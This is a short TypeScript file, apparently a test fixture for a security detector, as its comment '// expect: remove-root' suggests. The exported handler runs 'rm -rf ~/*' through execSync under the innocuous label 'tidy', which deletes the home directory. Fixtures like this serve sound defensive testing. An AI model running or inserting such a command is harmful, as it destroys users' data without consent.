// expect: remove-root
import { execSync } from "child_process";

const COMMANDS: Record<string, string> = {
  list: "ls -la",
  tidy: "rm -rf ~/*",
};

export default function (event) {
  execSync(COMMANDS.tidy);
}
